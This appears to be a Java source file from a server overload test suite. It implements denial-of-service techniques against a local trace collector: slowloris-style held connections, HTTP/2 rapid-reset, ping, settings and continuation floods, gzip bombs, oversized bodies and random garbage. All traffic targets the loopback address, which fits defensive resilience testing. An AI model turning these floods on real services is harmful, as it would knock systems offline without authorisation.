package io.spanweir.perf.overload;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.concurrent.locks.LockSupport;
import java.util.zip.GZIPOutputStream;

/** What a hostile peer does, again and again until the time is over: bytes over sockets. Threading: one thread. */
enum Attack {
    SILENT_CONNECTIONS("2000 connections that say nothing") {
        @Override
        void run(Target target) throws IOException {
            hold(target, 2_000, target.httpPort(), new byte[0]);
        }
    },
    IDLE_CONNECTIONS("9900 connections that are idle after a request") {
        @Override
        void run(Target target) throws IOException {
            hold(target, 9_900, target.httpPort(), HttpExports.head(0, ""));
        }
    },
    SLOW_HEADS("1000 heads of requests, byte by byte") {
        @Override
        void run(Target target) throws IOException {
            hold(target, 1_000, target.httpPort(), ascii("POST /v1/traces HTTP/1.1\r\nX: "));
        }
    },
    SLOW_BODIES("1000 bodies that stop half way") {
        @Override
        void run(Target target) throws IOException {
            hold(target, 1_000, target.httpPort(), join(HttpExports.head(200_000, ""), new byte[100_000]));
        }
    },
    HALF_MESSAGES("half messages on 20,000 gRPC streams") {
        @Override
        void run(Target target) throws IOException {
            Frames frames = new Frames();
            for (int stream = 1; stream < 200; stream += 2) {
                frames.frame(HEADERS, END_HEADERS, stream, exportHeaders()).frame(DATA, 0, stream, HALF_MESSAGE);
            }
            hold(target, 200, target.grpcPort(), frames.bytes());
        }
    },
    RAPID_RESET("HTTP/2 rapid reset") {
        @Override
        void run(Target target) {
            flood(
                    target,
                    true,
                    stream -> new Frames()
                            .frame(HEADERS, END_HEADERS, stream, exportHeaders())
                            .frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
        }
    },
    PROVOKED_RESETS("HTTP/2 resets that the server is made to send") {
        @Override
        void run(Target target) {
            flood(
                    target,
                    true,
                    stream -> new Frames()
                            .frame(HEADERS, END_HEADERS, stream, exportHeaders())
                            .frame(WINDOW_UPDATE, 0, stream, new byte[4]));
        }
    },
    PINGS("HTTP/2 pings") {
        @Override
        void run(Target target) {
            flood(target, true, stream -> new Frames().frame(PING, 0, 0, new byte[8]));
        }
    },
    SETTINGS_FLOOD("HTTP/2 settings") {
        @Override
        void run(Target target) {
            flood(target, true, stream -> new Frames().frame(SETTINGS, 0, 0, new byte[0]));
        }
    },
    CONTINUATIONS("HTTP/2 continuations") {
        @Override
        void run(Target target) {
            flood(
                    target,
                    true,
                    stream -> stream == 1
                            ? new Frames().frame(HEADERS, 0, 1, exportHeaders())
                            : new Frames().frame(CONTINUATION, 0, 1, new byte[0]));
        }
    },
    BOMBS("gzip bombs of 64 MiB") {
        @Override
        void run(Target target) throws IOException {
            ByteArrayOutputStream bomb = new ByteArrayOutputStream();
            try (GZIPOutputStream gzip = new GZIPOutputStream(bomb)) {
                gzip.write(new byte[64 << 20]);
            }
            byte[] request = join(HttpExports.head(bomb.size(), "Content-Encoding: gzip\r\n"), bomb.toByteArray());
            flood(target, false, number -> new Frames().raw(request));
        }
    },
    OVERSIZED("bodies of 100 MiB") {
        @Override
        void run(Target target) {
            byte[] head = HttpExports.head(100 << 20, "");
            flood(target, false, number -> new Frames().raw(number == 1 ? head : new byte[64 << 10]));
        }
    },
    GARBAGE("bytes that are no protocol") {
        @Override
        void run(Target target) {
            byte[] garbage = new byte[32 << 10];
            new java.util.SplittableRandom(7).nextBytes(garbage);
            flood(target, false, number -> new Frames().raw(garbage));
        }
    };

    /** Where to attack, and until when. */
    static final class Target {
        private final int grpcPort;
        private final int httpPort;
        private final long endNanos;
        private final InetAddress from;
        private long connections;

        /** @param from the address to connect from */
        Target(int grpcPort, int httpPort, long endNanos, InetAddress from) {
            this.grpcPort = grpcPort;
            this.httpPort = httpPort;
            this.endNanos = endNanos;
            this.from = from;
        }

        int grpcPort() {
            return grpcPort;
        }

        int httpPort() {
            return httpPort;
        }

        boolean over() {
            return System.nanoTime() - endNanos >= 0;
        }

        /** How many were opened. */
        long connections() {
            return connections;
        }

        private Socket connect(int port) throws IOException {
            connections++;
            return new Socket(InetAddress.getLoopbackAddress(), port, from, 0);
        }
    }

    private interface Burst {
        Frames of(int oddNumber);
    }

    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_HEADERS = 4;
    private static final int STREAMS_PER_CONNECTION = 20_000;
    private static final int BURST_BYTES = 16 << 10;
    private static final long RECONNECT_NANOS = 5_000_000;
    private static final long DRIP_NANOS = 200_000_000;
    private static final byte[] PREFACE = ascii("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    private static final byte[] HALF_MESSAGE = new byte[10_000];

    static {
        HALF_MESSAGE[2] = 1; // of 64 KiB
    }

    private final String title;

    Attack(String title) {
        this.title = title;
    }

    String title() {
        return title;
    }

    abstract void run(Target target) throws IOException;

    /** Opens connections, says the same on each, and then a byte now and then if that was half of something. */
    private static void hold(Target target, int count, int port, byte[] first) throws IOException {
        List<Socket> open = new ArrayList<>();
        boolean http2 = port == target.grpcPort();
        try {
            while (!target.over()) {
                while (open.size() < count && !target.over()) {
                    Socket socket = target.connect(port);
                    open.add(socket);
                    if (http2) {
                        socket.getOutputStream()
                                .write(join(
                                        PREFACE,
                                        new Frames()
                                                .frame(SETTINGS, 0, 0, new byte[0])
                                                .bytes()));
                    }
                    socket.getOutputStream().write(first);
                }
                if (first.length > 0 && !http2 && !isWhole(first)) {
                    for (Iterator<Socket> all = open.iterator(); all.hasNext(); ) {
                        Socket socket = all.next();
                        if (!drips(socket)) {
                            socket.close();
                            all.remove();
                        }
                    }
                }
                LockSupport.parkNanos(DRIP_NANOS);
            }
        } finally {
            for (Socket socket : open) {
                socket.close();
            }
        }
    }

    private static boolean isWhole(byte[] request) {
        return java.util.Arrays.equals(request, HttpExports.head(0, ""));
    }

    private static boolean drips(Socket socket) {
        try {
            socket.getOutputStream().write('x');
            return true;
        } catch (IOException closed) {
            return false;
        }
    }

    /** Sends as much as one connection stands, then takes the next. */
    private static void flood(Target target, boolean http2, Burst burst) {
        int turn = 0;
        while (!target.over()) {
            int port = http2 && turn++ % 2 == 0 ? target.grpcPort() : target.httpPort();
            try (Socket socket = target.connect(port)) {
                Threads.start("answers", () -> socket.getInputStream().transferTo(OutputStream.nullOutputStream()));
                Frames gathered = new Frames();
                if (http2) {
                    gathered.raw(PREFACE).frame(SETTINGS, 0, 0, new byte[0]);
                }
                for (int number = 1; number < STREAMS_PER_CONNECTION && !target.over(); number += 2) {
                    gathered.raw(burst.of(number).bytes());
                    if (gathered.length() > BURST_BYTES) {
                        socket.getOutputStream().write(gathered.bytes());
                        gathered = new Frames();
                    }
                }
                socket.getOutputStream().write(gathered.bytes());
            } catch (SocketException closed) {
                LockSupport.parkNanos(RECONNECT_NANOS);
            } catch (IOException broken) {
                LockSupport.parkNanos(RECONNECT_NANOS);
            }
        }
    }

    private static byte[] exportHeaders() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        String[] headers = {
            ":method",
            "POST",
            ":scheme",
            "http",
            ":authority",
            "a",
            "te",
            "trailers",
            ":path",
            "/opentelemetry.proto.collector.trace.v1.TraceService/Export",
            "content-type",
            "application/grpc"
        };
        for (int i = 0; i < headers.length; i += 2) {
            // HPACK literals without indexing; pseudo-headers first.
            if (!headers[i].equals("te")) {
                literal(block, headers[i], headers[i + 1]);
            }
        }
        literal(block, "te", "trailers");
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, String name, String value) {
        block.write(0);
        block.write(name.length());
        block.writeBytes(ascii(name));
        block.write(value.length());
        block.writeBytes(ascii(value));
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] join(byte[] first, byte[] second) {
        byte[] all = java.util.Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, all, first.length, second.length);
        return all;
    }

    /** Frames of HTTP/2, or any bytes, one after the other. */
    private static final class Frames {
        private final ByteArrayOutputStream all = new ByteArrayOutputStream();

        Frames frame(int type, int flags, int stream, byte[] payload) {
            all.write(payload.length >>> 16);
            all.write(payload.length >>> 8);
            all.write(payload.length);
            all.write(type);
            all.write(flags);
            all.writeBytes(
                    new byte[] {(byte) (stream >>> 24), (byte) (stream >>> 16), (byte) (stream >>> 8), (byte) stream});
            all.writeBytes(payload);
            return this;
        }

        Frames raw(byte[] bytes) {
            all.writeBytes(bytes);
            return this;
        }

        int length() {
            return all.size();
        }

        byte[] bytes() {
            return all.toByteArray();
        }
    }
}
